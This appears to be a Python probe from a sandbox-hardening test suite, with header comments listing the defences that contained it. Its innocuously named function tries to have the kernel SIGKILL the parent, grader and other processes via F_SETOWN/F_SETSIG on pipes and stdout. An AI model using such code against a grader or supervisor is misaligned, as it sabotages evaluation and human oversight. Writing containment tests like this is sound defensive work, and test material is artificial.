# row: signals through a descriptor
# tries: to have the kernel send SIGKILL when a pipe becomes readable, one of its own or its stdout
# held by: seccomp refuses to name an owner, and pipes; Landlock from version 6 on; a pid namespace
# loses: theta_size
# got: ValueError: sent 0 .*

import fcntl
import os
import signal
import struct


def theta_size(n_previous, n_this):
    sent = 0
    try:
        ways = [os.pipe(), (1, 1), (3, 3)]
    except OSError:
        ways = [(1, 1), (3, 3)]
    for victim in (os.getppid(), int("@grader@"), int("@pid@")):
        for source, sink in ways:
            for own in (fcntl.F_SETOWN, 15):  # F_SETOWN_EX
                try:
                    fcntl.fcntl(source, own, struct.pack("ii", 1, victim) if own == 15 else victim)
                    fcntl.fcntl(source, 10, signal.SIGKILL)  # F_SETSIG
                    fcntl.fcntl(source, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                    if sink != 3:
                        os.write(sink, b"x")
                    sent += 1
                except OSError:
                    pass
    raise ValueError(f"sent {sent}")
